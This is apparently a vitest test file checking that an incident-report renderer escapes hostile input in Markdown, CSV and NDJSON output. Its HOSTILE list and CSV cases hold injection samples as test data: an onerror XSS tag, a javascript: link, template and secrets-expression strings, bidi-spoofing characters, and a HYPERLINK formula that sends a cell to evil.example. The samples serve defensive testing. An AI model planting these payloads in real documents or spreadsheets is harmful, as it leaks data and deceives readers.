import { describe, expect, it } from 'vitest';
import { inputOf } from '../../../src/core/report/report.fixture.ts';
import { aBitOfEverything, render } from './rendered.fixture.ts';

const HOSTILE = [
  '@org/team ping',
  'a|b|c',
  'closes #12 and GH-12 and o/r#1',
  '<!-- x --> <img src=x onerror=alert(1)> <details>',
  '![x](https://evil.example/p.png) [y](javascript:alert(1))',
  '```\n# Heading\n| a | b |\n| --- | --- |',
  '=HYPERLINK("http://evil.example/?x="&A1,"click")',
  `{{constructor}} {{> head}} \${{ secrets.X }} $$x$$`,
  '> [!NOTE]\n> approved by @kim',
  'www.evil.example deadbeefdeadbeefdeadbeef',
  '\u202Egnp.exe \u200B\u2066 \u0007\u001b[2J',
  '\\| \\@kim `@kim` ~~x~~ :smile: [^1]',
];

const MENTION = /(^|[^\w`])@[A-Za-z0-9]/m;

function shape(text: string): readonly number[] {
  return text.split('\n').map((line) => (line.startsWith('|') ? line.replace(/\\./g, '').split('|').length : -1));
}

describe('a hostile text in every field that people write', () => {
  const plain = render(inputOf(aBitOfEverything('Printer on fire')), { formats: ['md'] }).files;

  it.each(HOSTILE)('breaks no page, mentions nobody and links nowhere: %j', (hostile) => {
    const { files } = render(inputOf(aBitOfEverything(hostile)), { formats: ['md'] });
    for (const [index, { path, text }] of files.entries()) {
      expect([path, shape(text)]).toEqual([path, shape(plain[index]?.text ?? '')]);
      expect(text).not.toMatch(MENTION);
      expect(text).not.toMatch(/#\d|GH-\d|https?:|www\.|<[a-z!]|[0-9a-f]{8}/i);
      expect(text).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
    }
  });
});

describe('a hostile text in exported tables', () => {
  const cells = (hostile: string) =>
    render(inputOf(aBitOfEverything(hostile)), { formats: ['csv'] }).byPath.get('data/incidents.csv') ?? '';

  it.each([
    ['=HYPERLINK("http://evil.example/?x="&A1,"click")', `"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")"`],
    ['-5% CPU', `"'-5% CPU"`],
    ['+1', `"'+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"' =1"`],
    ['  ＝1', `"'  ＝1"`],
    ['a,"b"\r\nc', '"a,""b""\nc"'],
    ['plain', '"plain"'],
  ])('[AUD-08] is the exact cell: %j', (hostile, cell) => {
    expect(cells(hostile).split('\r\n')[1]).toContain(`"INC-1","records/INC-1.yaml",${cell},"in_progress"`);
  });

  it('[AUD-08] stands in rows that end in CRLF, text quoted and numbers bare', () => {
    const [head = '', first = '', ...rest] = cells('plain').split('\r\n');
    expect(head.startsWith('"id","path","title","state","phase","counted","duplicate","priority"')).toBe(true);
    expect(first).toMatch(/,true,false,"P2",.*,"2026-11-20T12:00:00Z"|,0,0,0,/);
    expect(rest.at(-1)).toBe('');
    expect(rest).toHaveLength(4);
  });

  it('[AUD-08] comes back from NDJSON letter by letter', () => {
    for (const hostile of HOSTILE) {
      const text = render(inputOf(aBitOfEverything(hostile)), { formats: ['json'] }).byPath.get(
        'data/incidents.ndjson',
      );
      const [first] = (text ?? '').split('\n').map((row) => JSON.parse(row === '' ? 'null' : row));
      expect(first.title).toBe(hostile);
      expect(first.opened_at).toBe('2026-11-20T09:00:00Z');
    }
  });
});
